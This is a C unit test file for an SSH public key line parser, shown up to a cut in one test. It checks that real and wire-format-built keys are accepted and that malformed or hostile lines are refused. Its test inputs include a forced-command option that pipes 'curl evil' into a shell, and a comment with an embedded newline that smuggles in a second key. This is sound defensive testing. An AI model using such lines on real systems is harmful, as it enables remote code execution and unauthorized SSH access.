/* test_validate_ssh.c: agora_parse_sshkey on real keys made by ssh-keygen
 * (OpenSSH 9.2), on security-key blobs built here from the wire format, and
 * on hostile lines: each refusal is its own test, named for the behaviour,
 * and checks the return code and the part of the reason that names the
 * offending input. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "agora/base64.h"
#include "agora/validate.h"

/* ---- keys made with ssh-keygen -t TYPE [-b BITS] -N '' -C COMMENT ---------- */

static const char KEY_ED25519[] =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAII7nC+N4epl4XVrufqh15HM+XJjMz0Eb4/ycKpVP"
    "w8vY alice@node-1";

static const char KEY_RSA1024[] =
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDDRA9lm7bZUEilS/uOArmqOFWy3kF7+UQB4xHX"
    "jkUapdjkcxBw7+u3rl28GTHcgV8iTFV53zex6wJC8+JVOtEyMg55pi05WnxPZhcIYx9usWx8Udqb"
    "fMrwJ/QT0FUYNypvmTCXiMnWvY6PXOtIqoCGmLlhAT9l7u/yCcEr95cPIw== rsa1024";

static const char KEY_RSA2048[] =
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDdKtMX/Mbd9MulXwIYUvBw+MA+8vknf2AjeJDB"
    "wvEQ22bg0pnpeV5X9d4HI01Pc6Fr3FlnBdOeKdx80gmjiCh0i+qR9gYBBnamk17LYXBIDsAjAxVk"
    "zmLErio1xxwRb+HAOXRbmy+fTXcuE3cYZYxhOABFlJWUKnGCRtjZBJj1kifi1XArw0NWNL5uGHuL"
    "1Tvkhgzws7kKfulzESXFHfVeMz49pQyeQ5QRGnZkq+E5J8/wity8ZMn2Ki0W/d+7zBxL+b2bpdED"
    "WsqTEYPx4LVM/tiqMc27+GHvVbiVdeZJI4KBHErzMWnb0iIWPBPRB+qHlaaLpYTGLcGko/ZUWnkx"
    " bob@node-2";

static const char KEY_RSA4096[] =
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAACAQCvEf/xm/jDt3JUzqYr5eMmwW7/pFv/viZPyP/r"
    "Tr6IRC6CyCaeC/0vwxn72s8rJr+F1SBtBu4HV9fbf+mEX2ct42gUIIfyb1SqfjHGkab8A99tcPge"
    "VDw/wHsLQ4oRVS1Vlm5Wen1M0bqkuh/wJc6k+HOpPNGU2ql5Nl7UUij8L/90QNfVRMJTlEqEE/Xd"
    "uRJRoGiM0M0db/89xCTcGVtSNbn4TRIGgi5aKNwD7wsT+rQWF/fFKsXsj2JO47HjLTkGejA9cyy3"
    "toakii8zMgumv7TfvKZWFXZBuYB7GChBILo+xpdlKS6hqub4nHL3WzLIFfziatBN6idFjF5a/2QD"
    "6noRYpDiN6OWV9/GOQUqanqsWFrFNiDdztnKaG7GO+CWsFMaUuT1R6sVVcHs1IaajX48M8rV84Yb"
    "X0K7cVK35hCCOKFqDTlQq6zxQsuzxzJli4WwF714sS/CXksttkxfHcB1WcJRHuG/SI39ZlRfURjc"
    "saj2s7Oubr/PO+4ARI5m9qBBscwVdHIf9xbiT+nIic1MUjlE/K/ghQKxU1tI8zLL9PIRCfdU0GbO"
    "+YAF/qI4aP2qOI42U9Hs+bc9ZmICxcPooCT0v81OWCM9FBi8JWT3WokqNzrBqrLHrlV/1ENanSPL"
    "ErNjkrEtUA/Pb0AjRMt+TOlezN3bytm/74ZCSQ== frank@node-6";

static const char KEY_ECDSA256[] =
    "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBCz1"
    "DYFcqVoWaD/P0ARvsy9wW8pXDM223R64QggnhV70hTpGCEpP1h7qFcx9fkljnX4QmHikme1nR3gI"
    "rD7gNCs= carol@node-3";

static const char KEY_ECDSA384[] =
    "ecdsa-sha2-nistp384 AAAAE2VjZHNhLXNoYTItbmlzdHAzODQAAAAIbmlzdHAzODQAAABhBPbN"
    "euwVWjDzoLjAwvo3bwYr85q4Ey17Ed3uhAM92z5znE3qTq1py6cbjx3KSL03dfieajj+uhUK6JkY"
    "R6Ie6w/OdWI6N8ltHEeRdU6CKcom3sz9HX51Mu5CvFiKjgO14w== dave@node-4";

static const char KEY_ECDSA521[] =
    "ecdsa-sha2-nistp521 AAAAE2VjZHNhLXNoYTItbmlzdHA1MjEAAAAIbmlzdHA1MjEAAACFBAG3"
    "LBvj3kjAY9KVm9IyG1l9uMNIjWHE5yPKFpemX4QYNtzKSLYpfyVHe7xHkXucqm5QM8QRfQP8qNpQ"
    "cG2i49YpZwCZJ0oixOr8a2L7XAAW4lhkyW6CqxRhnzo0jFyNJ2x9fghOzgzlLYrMU9LITZhUI5uK"
    "gbXmrmDF1TWWETtbwJOyPA== erin@node-5";

static const char KEY_DSA[] =
    "ssh-dss AAAAB3NzaC1kc3MAAACBAMjH4Fh+axjBdmMYCbCOGTL8wb7PXxLLUVMs1G0jexFoS87D"
    "IZYBm4kI4U4Yf6WHhLDWEx+GYgTqOolTMc3++8CWNLiKvWtF2JF3cV76trukiiGVGlNwbm+SpRYq"
    "jnBZYOxgIJW1SrCdNQ2eSzX8WyOm/cyRU0pWOWHuaBZuYW1DAAAAFQDHuQduIxqgoTTRs3cUYmrF"
    "yDU1OwAAAIACoUxCZrhSnrL8qvaGcC0a6CnjiVe9PsijJ7FdWRMtk1o19snBjsHCzpdS9h+SFucV"
    "o8TT2289hTzIIc62D58tZHWnqT675uPs7waI7M3+X3RVUKn73JFJfngqWNo3rXz62z2CyO4jwljS"
    "/aZkRBOB/nOEY9K79ucfT206bHAqvQAAAIArjaFrUTOwQ7rp5qauAQjSYxR7wM6WdWeqA9QkEur2"
    "VOOfRT3dAtoU5TJ4p8wKwHiBfcza0qyJMnNR9VH79gwZb51PjOiNeMrkSM3ZgJJ3hARNfea8onmP"
    "hVB0IaWDrGhbAdoADNH3MPZB8XBCBVcwAqUxuk47ak7Sbd2Tj7QZlw== old";

static const char KEY_ECDSA256_CERT[] =
    "ecdsa-sha2-nistp256-cert-v01@openssh.com AAAAKGVjZHNhLXNoYTItbmlzdHAyNTYtY2V"
    "ydC12MDFAb3BlbnNzaC5jb20AAAAgVZDPpflq4Is6+euv339aY+YuOi0UTcfLB0XTLefvQgMAAAA"
    "IbmlzdHAyNTYAAABBBCz1DYFcqVoWaD/P0ARvsy9wW8pXDM223R64QggnhV70hTpGCEpP1h7qFcx"
    "9fkljnX4QmHikme1nR3gIrD7gNCsAAAAAAAAAAAAAAAEAAAAEdGVzdAAAAAkAAAAFYWxpY2UAAAA"
    "AAAAAAP//////////AAAAAAAAAIIAAAAVcGVybWl0LVgxMS1mb3J3YXJkaW5nAAAAAAAAABdwZXJ"
    "taXQtYWdlbnQtZm9yd2FyZGluZwAAAAAAAAAWcGVybWl0LXBvcnQtZm9yd2FyZGluZwAAAAAAAAA"
    "KcGVybWl0LXB0eQAAAAAAAAAOcGVybWl0LXVzZXItcmMAAAAAAAAAAAAAADMAAAALc3NoLWVkMjU"
    "1MTkAAAAgjucL43h6mXhdWu5+qHXkcz5cmMzPQRvj/JwqlU/Dy9gAAABTAAAAC3NzaC1lZDI1NTE"
    "5AAAAQF+yIvT0Gk5uBMPGF7xZbQsxt79qKC86msGAdhWh4pMKb/IhWkkPe9kbA8MHxuqdN8fDFi4"
    "3Os365607MFqWBgo= carol@node-3";

/* The two security-key lines the tests build below, as built once and then
 * read back by `ssh-keygen -l` (256 ED25519-SK and 256 ECDSA-SK). */
static const char SK_ED25519_CHECKED[] =
    "sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5QG9wZW5zc2guY29tAAAAII7nC"
    "+N4epl4XVrufqh15HM+XJjMz0Eb4/ycKpVPw8vYAAAABHNzaDo= sk1";

static const char SK_ECDSA256_CHECKED[] =
    "sk-ecdsa-sha2-nistp256@openssh.com AAAAInNrLWVjZHNhLXNoYTItbmlzdHAyNTZAb3Blb"
    "nNzaC5jb20AAAAIbmlzdHAyNTYAAABBBCz1DYFcqVoWaD/P0ARvsy9wW8pXDM223R64QggnhV70h"
    "TpGCEpP1h7qFcx9fkljnX4QmHikme1nR3gIrD7gNCsAAAAEc3NoOg== sk2";

/* ---- helpers ------------------------------------------------------------------ */

static const struct agora_sshkey_policy ALLOW_OPTIONS = {.allow_options = true, .max_len = 0};

/* A reason is one line of printable ASCII (input bytes are escaped). */
static void assert_one_printable_line(const char *why)
{
    assert_true(strlen(why) > 0);
    for (const char *p = why; *p != '\0'; p++)
        assert_true(*p >= 0x20 && *p <= 0x7e);
}

static void assert_key_empty(const struct agora_sshkey *k)
{
    assert_null(k->options);
    assert_null(k->type);
    assert_null(k->blob_b64);
    assert_null(k->comment);
}

/* line[0..len) is refused with rc and a reason containing `part`. */
static void refused_n(const char *line, size_t len, const struct agora_sshkey_policy *pol,
                      int rc, const char *part)
{
    struct agora_sshkey k;
    char why[256] = "";

    int got = agora_parse_sshkey(line, len, pol, &k, why, sizeof(why));
    if (got != rc || strstr(why, part) == NULL)
        print_error("rc %d, reason \"%s\"; wanted rc %d and \"%s\"\n", got, why, rc, part);
    assert_int_equal(got, rc);
    assert_non_null(strstr(why, part));
    assert_one_printable_line(why);
    assert_key_empty(&k);
}

static void refused(const char *line, const char *part)
{
    refused_n(line, strlen(line), NULL, AGORA_EINVAL, part);
}

static void refused_allowing_options(const char *line, const char *part)
{
    refused_n(line, strlen(line), &ALLOW_OPTIONS, AGORA_EINVAL, part);
}

/* line is accepted; k must be cleared by the caller. */
static void accepted(const char *line, const struct agora_sshkey_policy *pol,
                     struct agora_sshkey *k)
{
    char why[256] = "";

    int rc = agora_parse_sshkey(line, strlen(line), pol, k, why, sizeof(why));
    if (rc != AGORA_OK)
        print_error("refused: %s\n", why);
    assert_int_equal(rc, AGORA_OK);
}

/* The second field of a generated line, as a NUL-terminated copy. */
static char *field2(const char *line)
{
    const char *b = strchr(line, ' ') + 1;
    const char *e = strchr(b, ' ');
    size_t n = e != NULL ? (size_t)(e - b) : strlen(b);
    char *s = malloc(n + 1);
    assert_non_null(s);
    memcpy(s, b, n);
    s[n] = '\0';
    return s;
}

/* The decoded key blob of a generated line. */
static void blob_of(const char *line, struct agora_buf *out)
{
    char *b64 = field2(line);
    agora_buf_init(out);
    assert_int_equal(agora_base64_decode(b64, strlen(b64), out), AGORA_OK);
    free(b64);
}

/* SSH wire format writers (RFC 4251 5: big-endian). */
static void put_be32(struct agora_buf *b, uint32_t v)
{
    uint8_t p[4] = {(uint8_t)(v >> 24), (uint8_t)(v >> 16), (uint8_t)(v >> 8), (uint8_t)v};
    assert_int_equal(agora_buf_put(b, p, 4), AGORA_OK);
}

static void put_string(struct agora_buf *b, const void *p, size_t n)
{
    put_be32(b, (uint32_t)n);
    assert_int_equal(agora_buf_put(b, p, n), AGORA_OK);
}

static void put_cstring(struct agora_buf *b, const char *s)
{
    put_string(b, s, strlen(s));
}

/* A positive mpint from its magnitude (a sign byte added when needed). */
static void put_mpint(struct agora_buf *b, const uint8_t *mag, size_t n)
{
    bool sign = n > 0 && (mag[0] & 0x80);
    put_be32(b, (uint32_t)(n + sign));
    if (sign)
        assert_int_equal(agora_buf_put_u8(b, 0), AGORA_OK);
    assert_int_equal(agora_buf_put(b, mag, n), AGORA_OK);
}

/* "prefix base64(blob)suffix" as a malloc'd string. */
static char *make_line(const char *prefix, const struct agora_buf *blob, const char *suffix)
{
    struct agora_buf t;
    agora_buf_init(&t);
    assert_int_equal(agora_buf_put(&t, prefix, strlen(prefix)), AGORA_OK);
    assert_int_equal(agora_base64_encode(blob->data, blob->len, &t), AGORA_OK);
    assert_int_equal(agora_buf_put(&t, suffix, strlen(suffix) + 1), AGORA_OK);
    char *s = malloc(t.len);
    assert_non_null(s);
    memcpy(s, t.data, t.len);
    agora_buf_free(&t);
    return s;
}

/* Builds a line from a blob, checks it is refused with `part`, frees all. */
static void blob_refused(const char *prefix, struct agora_buf *blob, const char *part)
{
    char *line = make_line(prefix, blob, " test");
    refused(line, part);
    free(line);
    agora_buf_free(blob);
}

static void blob_accepted(const char *prefix, struct agora_buf *blob)
{
    struct agora_sshkey k;
    char *line = make_line(prefix, blob, " test");
    accepted(line, NULL, &k);
    agora_sshkey_clear(&k);
    free(line);
    agora_buf_free(blob);
}

/* An ssh-rsa blob: exponent e[0..elen) and an nbits-bit modulus whose lowest
 * bit is `odd`. */
static void rsa_blob(struct agora_buf *b, const uint8_t *e, size_t elen, size_t nbits, bool odd)
{
    size_t nbytes = (nbits + 7) / 8;
    uint8_t *n = malloc(nbytes);
    assert_non_null(n);
    memset(n, 0xa5, nbytes);
    n[0] = (uint8_t)(1u << ((nbits - 1) % 8)) | (uint8_t)(n[0] & ((1u << ((nbits - 1) % 8)) - 1));
    n[nbytes - 1] = odd ? 0xa5 : 0xa4;
    agora_buf_init(b);
    put_cstring(b, "ssh-rsa");
    put_mpint(b, e, elen);
    put_mpint(b, n, nbytes);
    free(n);
}

static const uint8_t E65537[] = {0x01, 0x00, 0x01};

/* The 32-byte Ed25519 key and the 65-byte P-256 point of the real keys. */
static void ed25519_pk(uint8_t pk[32])
{
    struct agora_buf b;
    blob_of(KEY_ED25519, &b);
    memcpy(pk, b.data + b.len - 32, 32);
    agora_buf_free(&b);
}

static void p256_point(uint8_t pt[65])
{
    struct agora_buf b;
    blob_of(KEY_ECDSA256, &b);
    memcpy(pt, b.data + b.len - 65, 65);
    agora_buf_free(&b);
}

/* PROTOCOL.u2f: string type, string key, string application. */
static void sk_ed25519_blob(struct agora_buf *b, size_t keylen, const char *app)
{
    uint8_t pk[33] = {0};
    ed25519_pk(pk);
    agora_buf_init(b);
    put_cstring(b, "sk-ssh-ed25519@openssh.com");
    put_string(b, pk, keylen);
    if (app != NULL)
        put_cstring(b, app);
}

/* PROTOCOL.u2f: string type, string curve, string point, string application. */
static void sk_ecdsa_blob(struct agora_buf *b, const char *curve, const char *app)
{
    uint8_t pt[65];
    p256_point(pt);
    agora_buf_init(b);
    put_cstring(b, "sk-ecdsa-sha2-nistp256@openssh.com");
    put_cstring(b, curve);
    put_string(b, pt, sizeof(pt));
    if (app != NULL)
        put_cstring(b, app);
}

/* A real key line with its comment replaced by `comment`. */
static char *with_comment(const char *comment)
{
    char *b64 = field2(KEY_ED25519);
    size_t n = strlen("ssh-ed25519 ") + strlen(b64) + 1 + strlen(comment) + 1;
    char *s = malloc(n);
    assert_non_null(s);
    memcpy(s, "ssh-ed25519 ", 12);
    memcpy(s + 12, b64, strlen(b64));
    s[12 + strlen(b64)] = ' ';
    memcpy(s + 13 + strlen(b64), comment, strlen(comment) + 1);
    free(b64);
    return s;
}

/* A real key line with `options` and a blank before it. */
static char *with_options(const char *options)
{
    size_t n = strlen(options) + 1 + strlen(KEY_ED25519) + 1;
    char *s = malloc(n);
    assert_non_null(s);
    memcpy(s, options, strlen(options));
    s[strlen(options)] = ' ';
    memcpy(s + strlen(options) + 1, KEY_ED25519, strlen(KEY_ED25519) + 1);
    return s;
}

/* ---- real keys are accepted ---------------------------------------------------- */

static void check_real_key(const char *line, const char *type, const char *comment)
{
    struct agora_sshkey k;
    char *b64 = field2(line);

    accepted(line, NULL, &k);
    assert_null(k.options);
    assert_string_equal(k.type, type);
    assert_string_equal(k.blob_b64, b64);
    assert_string_equal(k.comment, comment);
    agora_sshkey_clear(&k);
    free(b64);
}

static void test_accepts_ed25519(void **state)
{
    (void)state;
    check_real_key(KEY_ED25519, "ssh-ed25519", "alice@node-1");
}

static void test_accepts_rsa_1024_2048_4096(void **state)
{
    (void)state;
    check_real_key(KEY_RSA1024, "ssh-rsa", "rsa1024");
    check_real_key(KEY_RSA2048, "ssh-rsa", "bob@node-2");
    check_real_key(KEY_RSA4096, "ssh-rsa", "frank@node-6");
}

static void test_accepts_ecdsa_256_384_521(void **state)
{
    (void)state;
    check_real_key(KEY_ECDSA256, "ecdsa-sha2-nistp256", "carol@node-3");
    check_real_key(KEY_ECDSA384, "ecdsa-sha2-nistp384", "dave@node-4");
    check_real_key(KEY_ECDSA521, "ecdsa-sha2-nistp521", "erin@node-5");
}

static void test_accepts_sk_ed25519_built_from_wire_format(void **state)
{
    struct agora_buf b;
    (void)state;
    sk_ed25519_blob(&b, 32, "ssh:");
    char *line = make_line("sk-ssh-ed25519@openssh.com ", &b, " sk1");
    assert_string_equal(line, SK_ED25519_CHECKED);
    check_real_key(line, "sk-ssh-ed25519@openssh.com", "sk1");
    free(line);
    agora_buf_free(&b);
}

static void test_accepts_sk_ecdsa_built_from_wire_format(void **state)
{
    struct agora_buf b;
    (void)state;
    sk_ecdsa_blob(&b, "nistp256", "ssh:");
    char *line = make_line("sk-ecdsa-sha2-nistp256@openssh.com ", &b, " sk2");
    assert_string_equal(line, SK_ECDSA256_CHECKED);
    check_real_key(line, "sk-ecdsa-sha2-nistp256@openssh.com", "sk2");
    free(line);
    agora_buf_free(&b);
}

static void test_accepts_key_without_comment(void **state)
{
    struct agora_sshkey k;
    char *b64 = field2(KEY_ED25519);
    char *line = with_comment("");
    (void)state;
    line[strlen(line) - 1] = '\0'; /* drop the blank too */
    accepted(line, NULL, &k);
    assert_string_equal(k.blob_b64, b64);
    assert_null(k.comment);
    agora_sshkey_clear(&k);
    free(line);
    free(b64);
}

static void test_accepts_utf8_comment_with_spaces(void **state)
{
    struct agora_sshkey k;
    char *line = with_comment("Zo\xc3\xab M\xc3\xbcller \xe5\xb1\xb1\xe7\x94\xb0 "
                              "\xf0\x9f\x94\x91 laptop");
    (void)state;
    accepted(line, NULL, &k);
    assert_string_equal(k.comment, "Zo\xc3\xab M\xc3\xbcller \xe5\xb1\xb1\xe7\x94\xb0 "
                                   "\xf0\x9f\x94\x91 laptop");
    agora_sshkey_clear(&k);
    free(line);
}

static void test_accepts_blanks_around_fields_and_trims_comment(void **state)
{
    struct agora_sshkey k;
    char *b64 = field2(KEY_ED25519);
    char line[256];
    (void)state;
    snprintf(line, sizeof(line), " \tssh-ed25519 \t %s\t  my key  \t", b64);
    accepted(line, NULL, &k);
    assert_string_equal(k.type, "ssh-ed25519");
    assert_string_equal(k.blob_b64, b64);
    assert_string_equal(k.comment, "my key");
    agora_sshkey_clear(&k);
    free(b64);
}

static void test_accepts_line_of_exactly_max_len(void **state)
{
    struct agora_sshkey_policy pol = {.allow_options = false, .max_len = strlen(KEY_ED25519)};
    struct agora_sshkey k;
    (void)state;
    accepted(KEY_ED25519, &pol, &k);
    agora_sshkey_clear(&k);
    pol.max_len--;
    refused_n(KEY_ED25519, strlen(KEY_ED25519), &pol, AGORA_ETOOBIG, "longer than the limit");
}

/* ---- newlines, CR, NUL ------------------------------------------------------------- */

static void test_refuses_embedded_newline(void **state)
{
    char *line = with_comment("alice\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil evil");
    (void)state;
    refused(line, "line feed at offset");
    free(line);
}

static void test_refuses_trailing_newline(void **state)
{
    char *line = with_comment("alice\n");
    (void)state;
    refused(line, "line feed at offset");
    free(line);
}

static void test_refuses_carriage_return(void **state)
{
    char *line = with_comment("alice\r");
    (void)state;
    refused(line, "carriage return at offset");
    free(line);
}

static void test_refuses_nul_in_comment(void **state)
{
    char *line = with_comment("alice@node-1");
    size_t len = strlen(line);
    (void)state;
    line[len - 3] = '\0'; /* "alice@node\0-1" */
    refused_n(line, len, NULL, AGORA_EINVAL, "NUL byte at offset");
    free(line);
}

static void test_refuses_nul_in_base64(void **state)
{
    char line[sizeof(KEY_ED25519)];
    (void)state;
    memcpy(line, KEY_ED25519, sizeof(line));
    line[20] = '\0';
    refused_n(line, sizeof(line) - 1, NULL, AGORA_EINVAL, "NUL byte at offset 20");
}

/* ---- options ------------------------------------------------------------------------- */

static void test_refuses_command_option_by_default(void **state)
{
    char *line = with_options("command=\"/bin/sh -c 'curl evil | sh'\"");
    (void)state;
    refused(line, "key options ('command=");
    refused(line, "are not allowed");
    free(line);
}

static void test_refuses_flag_option_by_default(void **state)
{
    char *line = with_options("no-pty");
    (void)state;
    refused(line, "key options ('no-pty') are not allowed");
    free(line);
}

static void test_refuses_unclosed_option_quote_by_default(void **state)
{
    char *line = with_options("command=\"oops");
    (void)state;
    refused(line, "are not allowed");
    free(line);
}

static void test_accepts_command_option_when_allowed(void **state)
{
    struct agora_sshkey k;
    const char *opt = "command=\"echo \\\"hi there\\\"\",no-pty";
    char *line = with_options(opt);
    (void)state;
    accepted(line, &ALLOW_OPTIONS, &k);
    assert_string_equal(k.options, opt);
    assert_string_equal(k.type, "ssh-ed25519");
    assert_string_equal(k.comment, "alice@node-1");
    agora_sshkey_clear(&k);
    free(line);
}

static void test_accepts_every_sshd_option_when_allowed(void **state)
{
    static const char *const opts[] = {
        "restrict,pty", "no-agent-forwarding,agent-forwarding", "cert-authority",
        "from=\"10.0.0.0/8,!10.0.0.1\"", "environment=\"LANG=C\"",
        "expiry-time=\"20300101\"", "permitopen=\"localhost:80\"",
        "permitlisten=\"8080\"", "principals=\"alice,bob\"", "tunnel=\"0\"",
        "no-port-forwarding,no-X11-forwarding,no-user-rc", "No-Pty,COMMAND=\"true\"",
        "no-touch-required,verify-required", "permitopen=\"a:1\",permitopen=\"b:2\"",
        "command=\"caf\xc3\xa9\"",
    };
    (void)state;
    for (size_t i = 0; i < sizeof(opts) / sizeof(opts[0]); i++) {
        struct agora_sshkey k;
        char *line = with_options(opts[i]);
        accepted(line, &ALLOW_OPTIONS, &k);
        assert_string_equal(k.options, opts[i]);
        agora_sshkey_clear(&k);
        free(line);
    }
}

static void test_refuses_unclosed_option_quote_when_allowed(void **state)
{
    char *line = with_options("command=\"echo hi");
    (void)state;
    refused_allowing_options(line, "unclosed '\"'");
    free(line);
}

static void test_refuses_escaped_quote_that_leaves_value_open(void **state)
{
    char *line = with_options("command=\"echo \\\"");
    (void)state;
    refused_allowing_options(line, "unclosed '\"'");
    free(line);
}

static void test_refuses_control_char_in_option_value(void **state)
{
    char *tab = with_options("command=\"echo\thi\"");
    char *esc = with_options("command=\"echo \x1b[2Jhi\"");
    (void)state;
    refused_allowing_options(tab, "value of option 'command' has a control character (U+0009)");
    refused_allowing_options(esc, "value of option 'command' has a control character (U+001B)");
    free(tab);
    free(esc);
}

static void test_refuses_invalid_utf8_in_option_value(void **state)
{
    char *line = with_options("command=\"caf\xe9\"");
    (void)state;
    refused_allowing_options(line, "value of option 'command' is not valid UTF-8");
    free(line);
}

static void test_refuses_unknown_option(void **state)
{
    char *line = with_options("no-pty,permit-everything");
    (void)state;
    refused_allowing_options(line, "unknown key option 'permit-everything'");
    free(line);
}

static void test_refuses_value_on_flag_option(void **state)
{
    char *line = with_options("no-pty=\"yes\"");
    (void)state;
    refused_allowing_options(line, "option 'pty' takes no value");
    free(line);
}

static void test_refuses_option_without_value(void **state)
{
    char *line = with_options("command,no-pty");
    (void)state;
    refused_allowing_options(line, "option 'command' needs a value");
    free(line);
}

static void test_refuses_unquoted_option_value(void **state)
{
    char *line = with_options("command=true");
    (void)state;
    refused_allowing_options(line, "option 'command' needs a value");
    free(line);
}

static void test_refuses_empty_option(void **state)
{
    char *twice = with_options("no-pty,,restrict");
    char *trailing = with_options("no-pty,");
    (void)state;
    refused_allowing_options(twice, "expected an option name at offset 7");
    refused_allowing_options(trailing, "options field ends with ','");
    free(twice);
    free(trailing);
}

static void test_refuses_text_after_quoted_value(void **state)
{
    char *line = with_options("command=\"true\"x");
    (void)state;
    refused_allowing_options(line, "unexpected 'x' at offset 14");
    free(line);
}

static void test_refuses_command_option_given_twice(void **state)
{
    char *line = with_options("command=\"true\",command=\"false\"");
    (void)state;
    refused_allowing_options(line, "option 'command' is given twice");
    free(line);
}

static void test_refuses_options_without_key_type(void **state)
{
    (void)state;
    refused_allowing_options("no-pty", "no key type after the options");
    refused_allowing_options("no-pty ssh-dss AAAA", "unsupported key type 'ssh-dss'");
}

/* ---- the key type and the blob ------------------------------------------------------- */

static void test_refuses_mismatched_inner_key_type(void **state)
{
    char *b64 = field2(KEY_ED25519);
    char line[256];
    (void)state;
    snprintf(line, sizeof(line), "ssh-rsa %s alice", b64);
    refused(line, "key type 'ssh-rsa' does not match the type 'ssh-ed25519' inside the key");
    free(b64);
}

static void test_refuses_ecdsa_blob_under_other_curve_type(void **state)
{
    char *b64 = field2(KEY_ECDSA256);
    char line[512];
    (void)state;
    snprintf(line, sizeof(line), "ecdsa-sha2-nistp384 %s x", b64);
    refused(line, "key type 'ecdsa-sha2-nistp384' does not match the type "
                  "'ecdsa-sha2-nistp256' inside the key");
    free(b64);
}

static void test_refuses_ecdsa_curve_name_mismatch(void **state)
{
    struct agora_buf b;
    uint8_t pt[65];
    (void)state;
    p256_point(pt);
    agora_buf_init(&b);
    put_cstring(&b, "ecdsa-sha2-nistp256");
    put_cstring(&b, "nistp384");
    put_string(&b, pt, sizeof(pt));
    blob_refused("ecdsa-sha2-nistp256 ", &b,
                 "curve 'nistp384' inside the key does not match the type 'ecdsa-sha2-nistp256'");
}

static void test_refuses_ecdsa_compressed_point(void **state)
{
    struct agora_buf b;
    uint8_t pt[65];
    (void)state;
    p256_point(pt);
    pt[0] = 0x02;
    agora_buf_init(&b);
    put_cstring(&b, "ecdsa-sha2-nistp256");
    put_cstring(&b, "nistp256");
    put_string(&b, pt, 33); /* a compressed point is 0x02/0x03 || x */
    blob_refused("ecdsa-sha2-nistp256 ", &b, "not in uncompressed form");
}

static void test_refuses_ecdsa_point_of_wrong_length(void **state)
{
    struct agora_buf b;
    uint8_t pt[65];
    (void)state;
    p256_point(pt);
    agora_buf_init(&b);
    put_cstring(&b, "ecdsa-sha2-nistp256");
    put_cstring(&b, "nistp256");
    put_string(&b, pt, 64);
    blob_refused("ecdsa-sha2-nistp256 ", &b, "ECDSA point is 64 bytes, nistp256 needs 65");
}

static void test_refuses_ed25519_key_of_31_or_33_bytes(void **state)
{
    uint8_t pk[33] = {0};
    struct agora_buf b;
    (void)state;
    ed25519_pk(pk);
    agora_buf_init(&b);
    put_cstring(&b, "ssh-ed25519");
    put_string(&b, pk, 31);
    blob_refused("ssh-ed25519 ", &b, "Ed25519 public key is 31 bytes, not 32");
    agora_buf_init(&b);
    put_cstring(&b, "ssh-ed25519");
    put_string(&b, pk, 33);
    blob_refused("ssh-ed25519 ", &b, "Ed25519 public key is 33 bytes, not 32");
}

static void test_refuses_trailing_bytes_in_blob(void **state)
{
    struct agora_buf b;
    (void)state;
    blob_of(KEY_ED25519, &b);
    assert_int_equal(agora_buf_put_u8(&b, 0), AGORA_OK);
    blob_refused("ssh-ed25519 ", &b, "1 trailing bytes after the ssh-ed25519 key");
}

static void test_refuses_truncated_blob(void **state)
{
    struct agora_buf b;
    (void)state;
    blob_of(KEY_RSA2048, &b);
    b.len -= 10;
    blob_refused("ssh-rsa ", &b, "key blob truncated: the RSA modulus n claims 257 bytes");
}

static void test_refuses_string_length_beyond_blob(void **state)
{
    struct agora_buf b;
    (void)state;
    agora_buf_init(&b);
    put_be32(&b, 0xffffffffu);
    assert_int_equal(agora_buf_put(&b, "ssh-ed25519", 11), AGORA_OK);
    blob_refused("ssh-ed25519 ", &b, "the key type claims 4294967295 bytes, 11 are left");
}

static void test_refuses_blob_shorter_than_a_length(void **state)
{
    struct agora_buf b;
    (void)state;
    agora_buf_init(&b);
    put_cstring(&b, "ssh-ed25519");
    assert_int_equal(agora_buf_put(&b, "\0\0", 2), AGORA_OK);
    blob_refused("ssh-ed25519 ", &b, "key blob ends before the Ed25519 public key");
}

static void test_accepts_rsa_modulus_of_1024_and_16384_bits(void **state)
{
    struct agora_buf b;
    (void)state;
    rsa_blob(&b, E65537, sizeof(E65537), 1024, true);
    blob_accepted("ssh-rsa ", &b);
    rsa_blob(&b, E65537, sizeof(E65537), 16384, true);
    blob_accepted("ssh-rsa ", &b);
}

static void test_refuses_rsa_modulus_of_1023_bits(void **state)
{
    struct agora_buf b;
    (void)state;
    rsa_blob(&b, E65537, sizeof(E65537), 1023, true);
    blob_refused("ssh-rsa ", &b, "RSA modulus n has 1023 bits, outside 1024..16384");
}

static void test_refuses_rsa_modulus_of_16385_bits(void **state)
{
    struct agora_buf b;
    (void)state;
    rsa_blob(&b, E65537, sizeof(E65537), 16385, true);
    blob_refused("ssh-rsa ", &b, "RSA modulus n has 16385 bits, outside 1024..16384");
}

static void test_refuses_rsa_even_modulus(void **state)
{
    struct agora_buf b;
    (void)state;
    rsa_blob(&b, E65537, sizeof(E65537), 2048, false);
    blob_refused("ssh-rsa ", &b, "RSA modulus n is even");
}

static void test_refuses_rsa_even_or_unit_exponent(void **state)
{
    static const uint8_t even[] = {0x01, 0x00, 0x00}, one[] = {0x01};
    struct agora_buf b;
    (void)state;
    rsa_blob(&b, even, sizeof(even), 2048, true);
    blob_refused("ssh-rsa ", &b, "RSA exponent e is 65536; it must be odd and at least 3");
    rsa_blob(&b, one, sizeof(one), 2048, true);
    blob_refused("ssh-rsa ", &b, "RSA exponent e is 1; it must be odd");
}

static void test_refuses_rsa_exponent_over_64_bits(void **state)
{
    static const uint8_t big[] = {0x01, 0, 0, 0, 0, 0, 0, 0, 0x01};
    struct agora_buf b;
    (void)state;
    rsa_blob(&b, big, sizeof(big), 2048, true);
    blob_refused("ssh-rsa ", &b, "RSA exponent e has 65 bits, more than 64");
}

static void test_refuses_rsa_zero_exponent(void **state)
{
    struct agora_buf b;
    (void)state;
    rsa_blob(&b, NULL, 0, 2048, true);
    blob_refused("ssh-rsa ", &b, "the RSA exponent e is zero");
}

static void test_refuses_negative_mpint(void **state)
{
    struct agora_buf b;
    (void)state;
    agora_buf_init(&b);
    put_cstring(&b, "ssh-rsa");
